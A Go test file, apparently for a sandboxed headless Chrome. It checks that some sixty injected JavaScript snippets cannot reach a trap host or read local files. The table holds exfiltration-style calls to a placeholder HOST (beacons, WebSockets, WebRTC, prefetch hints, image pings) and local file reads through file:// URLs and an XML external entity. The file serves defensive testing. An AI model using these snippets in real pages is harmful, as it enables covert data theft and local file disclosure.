package chrome_test

import (
	"strings"
	"testing"
)

// active are ways to reach out that need a script. HOST stands for host, port and path,
// FILE for a path of this machine.
var active = map[string]string{
	"fetch":              `fetch("http://HOST")`,
	"fetch own":          `fetch("nothing.json")`,
	"fetch blind":        `fetch("http://HOST", {mode: "no-cors", method: "POST", body: "x"})`,
	"fetch at the end":   `fetch("http://HOST", {keepalive: true}); addEventListener("pagehide", () => navigator.sendBeacon("http://HOST", "x"))`,
	"fetch upper case":   `fetch("HTTP://HOST")`,
	"xhr":                `const x = new XMLHttpRequest(); x.open("GET", "http://HOST"); x.send()`,
	"xhr that waits":     `const x = new XMLHttpRequest(); x.open("GET", "http://HOST", false); x.send()`,
	"beacon":             `navigator.sendBeacon("http://HOST", "x")`,
	"websocket":          `new WebSocket("ws://HOST")`,
	"secure websocket":   `new WebSocket("wss://HOST")`,
	"eventsource":        `new EventSource("http://HOST")`,
	"worker":             `new Worker("http://HOST")`,
	"blob worker":        `new Worker(URL.createObjectURL(new Blob(['fetch("http://HOST"); new WebSocket("ws://HOST")'])))`,
	"data worker":        `new Worker('data:text/javascript,fetch("http://HOST")')`,
	"shared worker":      `new SharedWorker("http://HOST")`,
	"own shared worker":  `new SharedWorker(URL.createObjectURL(new Blob(['fetch("http://HOST")'])))`,
	"service worker":     `navigator.serviceWorker.register("sw.js")`,
	"worklet":            `CSS.paintWorklet.addModule("http://HOST")`,
	"audio worklet":      `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("http://HOST")`,
	"import":             `import("http://HOST")`,
	"import data":        `import('data:text/javascript,fetch("http://HOST")')`,
	"image":              `new Image().src = "http://HOST"`,
	"audio":              `new Audio("http://HOST").play()`,
	"style":              `document.body.style.background = 'url("http://HOST")'`,
	"style sheet":        `const s = new CSSStyleSheet(); s.replaceSync('p { background: url("http://HOST") }'); document.adoptedStyleSheets = [s]`,
	"location":           `location = "http://HOST"`,
	"location of top":    `top.location.replace("http://HOST")`,
	"file":               `location = "file://FILE"`,
	"file fetch":         `fetch("file://FILE")`,
	"file xhr":           `const x = new XMLHttpRequest(); x.open("GET", "file://FILE", false); x.send(); document.body.append(x.responseText)`,
	"file import":        `import("file://FILE")`,
	"file frame":         `const f = document.createElement("iframe"); f.src = "file://FILE"; document.body.append(f)`,
	"source":             `location = "view-source:file://FILE"`,
	"browser page":       `location = "chrome://version"`,
	"browser page fetch": `fetch("chrome://version")`,
	"blob page":          `location = URL.createObjectURL(new Blob(['<script>fetch("http://HOST")<\/script>'], {type: "text/html"}))`,
	"blob frame":         `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(['<img src="http://HOST">'], {type: "text/html"})); document.body.append(f)`,
	"data page":          `location = 'data:text/html,<img src="http://HOST">'`,
	"frame of text":      `const f = document.createElement("iframe"); f.srcdoc = '<img src="http://HOST">'; document.body.append(f)`,
	"write":              `document.write('<img src="http://HOST">')`,
	"iframe":             `const f = document.createElement("iframe"); f.src = "http://HOST"; document.body.append(f)`,
	"form":               `const f = document.createElement("form"); f.action = "http://HOST"; document.body.append(f); f.submit()`,
	"ping":               `const a = document.createElement("a"); a.href = "#"; a.ping = "http://HOST"; document.body.append(a); a.click()`,
	"link":               `const a = document.createElement("a"); a.href = "http://HOST"; document.body.append(a); a.click()`,
	"download":           `const a = document.createElement("a"); a.href = "http://HOST"; a.download = "x"; document.body.append(a); a.click()`,
	"hint":               `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://HOST"; document.head.append(l)`,
	"name":               `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//HOST"; document.head.append(l)`,
	"speculation":        `const s = document.createElement("script"); s.type = "speculationrules"; s.text = '{"prerender":[{"urls":["http://HOST"],"eagerness":"immediate"}],"prefetch":[{"urls":["http://HOST"],"eagerness":"immediate"}]}'; document.head.append(s)`,
	"webrtc":             `const c = new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}, {urls: "turn:HOST?transport=tcp", username: "u", credential: "c"}]}); c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o))`,
	"webrtc to a peer": `const c = new RTCPeerConnection(), [h, p] = "HOST".split("/")[0].split(":"); c.createDataChannel("x"); c.createOffer().then(async o => { await c.setLocalDescription(o);
		await c.setRemoteDescription({type: "answer", sdp: o.sdp.replace("actpass", "active")}); await c.addIceCandidate({candidate: "candidate:1 1 udp 1 " + h + " " + p + " typ host", sdpMid: "0"}) })`,
	"window.open":      `window.open("http://HOST")`,
	"webtransport":     `new WebTransport("https://HOST")`,
	"websocket stream": `new WebSocketStream("ws://HOST")`,
	"font":             `new FontFace("F", "url(http://HOST)").load()`,
	"cache":            `caches.open("x").then(c => c.add("http://HOST"))`,
	"payment":          `new PaymentRequest([{supportedMethods: "https://HOST"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).show()`,
	"transformation": `const p = new XSLTProcessor(), x = t => new DOMParser().parseFromString(t, "text/xml"); p.importStylesheet(x('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><p><x:copy-of select="document(\'http://HOST\')"/></p></x:template></x:stylesheet>'));
		document.body.append(p.transformToFragment(x("<a/>"), document))`,
	"entity":     `document.body.append(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e SYSTEM "file://FILE">]><a>&e;</a>', "text/xml").documentElement.textContent)`,
	"later":      `setTimeout(() => { fetch("http://HOST"); new WebSocket("ws://HOST") }, 50); setInterval(() => navigator.sendBeacon("http://HOST"), 20)`,
	"frame rate": `requestAnimationFrame(function again() { new Image().src = "http://HOST?" + performance.now(); requestAnimationFrame(again) })`,
	"idle":       `requestIdleCallback(() => fetch("http://HOST"))`,
	"printing":   `addEventListener("beforeprint", () => { new Image().src = "http://HOST" }); addEventListener("afterprint", () => navigator.sendBeacon("http://HOST"))`,
}

// quiet are the active attacks that the browser drops without a word, or that come too
// late to be seen. They must still reach nobody.
var quiet = map[string]bool{
	"worker": true, "shared worker": true, "webrtc": true, "webrtc to a peer": true, "speculation": true,
	"entity": true, "transformation": true, "later": true, "frame rate": true, "idle": true, "printing": true,
	"fetch at the end": true, "worklet": true, "audio worklet": true, "cache": true,
}

func TestActiveAttacks(t *testing.T) {
	p, trap := openUnshared(t), setTrap(t)
	for name, script := range active {
		for kind, host := range map[string]string{"an address": "127.0.0.1:" + trap.port + "/evil", "a name": trap.host + ":" + trap.port + "/evil"} {
			attack := strings.NewReplacer("HOST", host, "FILE", trap.file).Replace(script)
			m := markup(`<p id="p">before</p><script>try {` + attack + `} catch (e) {}</script>`)
			m.Scripts = true
			harmless(t, p, name+" of "+kind, m, quiet[name])
		}
	}
	p.Close()
	trap.empty()
}
